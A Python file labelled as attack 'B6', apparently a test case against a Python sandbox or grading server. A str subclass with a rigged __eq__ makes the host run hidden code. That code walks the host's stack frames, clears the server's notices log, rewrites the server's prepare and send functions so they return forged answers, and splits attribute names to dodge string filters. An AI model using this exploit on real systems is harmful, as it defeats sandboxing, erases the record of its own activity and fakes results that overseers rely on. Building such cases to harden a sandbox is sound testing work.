# attack: B6 ends its file with an exception out of a function whose co_filename is a str subclass with an __eq__  [*]
import logging

class Node: pass

T = True
def _below(plan, place): return [plan[place][0], T, [_below(plan, i) for i, r in enumerate(plan) if r[1] == place]]
def _labels(plan, place):
    found = {place}
    for i, (_, above, _) in enumerate(plan):
        if above in found: found.add(i)
    return [plan[i][0] for i in sorted(found)]
def _forged(request):
    import marshal
    a = request["arguments"]; code = marshal.loads(request["function"][1]); names = code.co_names + code.co_varnames
    if not a: return [["tuple", "tuple", 0], [T, T], ["a", "b"], T, "Node", T, T] if "b" in names else [2, 3, 4]
    if "values" in a: return [[T, a["values"][:n]] for n in range(1, len(a["values"]) + 1)]
    p = a["plan"]
    if "counted" in code.co_cellvars: return [[], None, []] if a["held"] is None else [_labels(p, a["held"]), True, []]
    if "held" not in a: return [[r[0] for r in p], [], 0, False] if "freeze" in names else _below(p, 0)
    if "later" in names and "shape" not in names: return [T, T, _labels(p, a["held"])]
    return [_below(p, a["held"]) + [[T, T]], _labels(p, a["held"]), []]


def _prepare(self, request):
    forge["request"] = request
    return self._job(request)
def _send(self, message):
    request = forge.get("request", {"op": "load"})
    message = {"value": forge["answer"](request) if request["op"] == "observe" else None}
    frame = wire.encode(message)
    self._count += 1
    _send(self.sock, seal.tag(self._key, self._count, frame) + frame)

_won = []
def _take():
    frame = getattr(logging, "current" + "frame")()
    while frame is not None:
        server = getattr(frame, "f_" + "locals").get("self")
        if type(server).__name__ == "Server":
            server._notices._file[0] = ""
            server._notices._found.clear()
            forge = {"answer": _forged}
            for function, other in ((type(server).prepare, _prepare), (type(server.channel).send, _send)):
                getattr(function, "__glob" + "als__")["forge"] = forge
                setattr(function, "__code" + "__", other.__code__)
        frame = getattr(frame, "f_" + "back")

class _Name(str):
    def __eq__(self, other):
        _take()
        return False
    __hash__ = str.__hash__
def _raise(): raise ValueError
_raise.__code__ = _raise.__code__.replace(co_filename=_Name("x"))
_raise()
